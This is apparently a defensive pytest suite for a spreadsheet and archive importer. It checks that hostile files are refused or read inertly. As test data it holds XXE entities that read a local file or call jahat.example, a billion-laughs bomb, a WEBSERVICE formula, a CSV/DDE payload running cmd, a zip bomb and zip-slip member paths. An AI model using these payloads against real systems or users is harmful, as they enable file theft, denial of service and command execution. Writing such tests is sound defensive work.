"""Workbooks and archives made to harm: no entity is filled in, no link followed, no macro run."""

import re
import socket
import zipfile

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from rbmgeo.errors import ImportRefused
from rbmgeo.intake.readers import open_file, read_tables
from rbmgeo.intake.readers.archive import looked_through

ID = "513540000001"
SECRET = "RAHASIA-MESIN"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9))


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Whoever asks for another machine fails the test."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("a file made the reader ask the network")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.fixture
def book(tmp_path):
    made = openpyxl.Workbook()
    made.active.append(["IDPEL", "NAMA"])
    made.active.append([ID, "Orang"])
    path = tmp_path / "a.xlsx"
    made.save(path)
    return path


def rewritten(path, change, *, more=()):
    """Return a workbook with some parts changed by a function of name and text."""
    out = path.with_name(f"jahat-{path.name}")
    with zipfile.ZipFile(path) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in given.namelist():
            made.writestr(name, change(name, given.read(name).decode("utf-8", "surrogateescape")))
        for name, content in more:
            made.writestr(name, content)
    return out


def words(path):
    try:
        return " ".join(str(v) for t in read_tables(path) for v in [*t.rows.columns, *t.rows.to_numpy().ravel()])  # fmt: skip
    except ImportRefused as refused:
        return str(refused)


@pytest.mark.parametrize(
    "declared", ['<!ENTITY x SYSTEM "file://{secret}">', '<!ENTITY x SYSTEM "http://jahat.example/a">',
                 '<!ENTITY % p SYSTEM "http://jahat.example/a.dtd"> %p; <!ENTITY x "y">', f"{LAUGHS}<!ENTITY x '&l8;'>"],
    ids=["file", "host", "parameter", "laughs"],
)  # fmt: skip
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml"])  # fmt: skip
def test_no_entity_of_a_workbook_is_filled_in(book, tmp_path, declared, part):
    secret = tmp_path / "rahasia.txt"
    secret.write_text(SECRET)
    doctype = f"<!DOCTYPE a [{declared.replace('{secret}', str(secret))}]>"

    def change(name, told):
        if name != part:
            return told
        head, mark, rest = told.partition("?>")
        body = (head + mark + doctype + rest) if mark else doctype + told
        return body.replace("Orang", "&x;").replace("Sheet", "&x;", 1)

    said = words(rewritten(book, change))
    assert SECRET not in said
    assert len(said) < 5_000


def test_macros_links_and_formulas_of_others_stay_what_they_are(book):
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLinkPath" Target="http://jahat.example/x.xlsx" TargetMode="External"/></Relationships>'
    )
    more = [
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open Shell calc"),
        ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", links),
        ("customUI/customUI.xml", "<customUI onLoad='x'/>"),
    ]

    def change(name, told):
        cell = '<c r="B2" t="str"><f>WEBSERVICE("http://jahat.example")&amp;[1]Sheet1!A1</f><v>tersimpan</v></c>'
        return (
            re.sub(r'<c r="B2"[^>]*>.*?</c>', cell, told) if name.endswith("sheet1.xml") else told
        )

    path = rewritten(book, change, more=more)
    for ending in (".xlsx", ".xlsm"):
        named = path.rename(path.with_suffix(ending))
        rows = read_tables(named)[0].rows
        assert rows["IDPEL"].tolist() == [ID]
        assert rows["NAMA"].tolist() == ["tersimpan"], "what the file keeps of its last sum"
        path = named


def test_text_that_begins_a_formula_is_text(tmp_path):
    made = openpyxl.Workbook()
    made.active.append(["IDPEL", "NAMA"])
    made.active.append([ID, "Orang"])
    made.active["B2"].value = "=1+1"
    made.active["B2"].data_type = "s"
    made.save(tmp_path / "a.xlsx")
    (tmp_path / "b.csv").write_text(f"IDPEL;NAMA\n{ID};=cmd|'/C calc'!A1\n")
    assert read_tables(tmp_path / "a.xlsx")[0].rows["NAMA"].tolist() == ["=1+1"]
    assert read_tables(tmp_path / "b.csv")[0].rows["NAMA"].tolist() == ["=cmd|'/C calc'!A1"]


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path):
    for name, part in (("a.zip", "a.csv"), ("b.xlsx", "xl/worksheets/sheet1.xml")):
        with (
            zipfile.ZipFile(tmp_path / name, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made,
            made.open(part, "w", force_zip64=True) as out,
        ):
            for _ in range(64):
                out.write(b"\0" * (1 << 20))
        assert (tmp_path / name).stat().st_size < 100_000
        with pytest.raises(ImportRefused, match=r"LIMIT|WORKBOOK"):
            open_file(tmp_path / name)


@pytest.mark.parametrize(
    "name", ["../../a.csv", "/etc/cron.d/a", "..\\..\\a.csv", "C:\\Windows\\a.csv", "a/../../b.csv", "C:a.csv"]
)  # fmt: skip
def test_a_member_that_leads_outside_is_refused(tmp_path, name):
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr(zipfile.ZipInfo(name), "IDPEL\n")
    with pytest.raises(ImportRefused, match="ZIP_PATH"):
        looked_through(path)


def test_a_sheet_that_says_it_is_endless_is_read_as_it_is(book):
    far = f"{get_column_letter(16384)}1048576"
    said = words(rewritten(book, lambda _, told: told.replace('ref="A1:B2"', f'ref="A1:{far}"')))
    assert ID in said and len(said) < 5_000
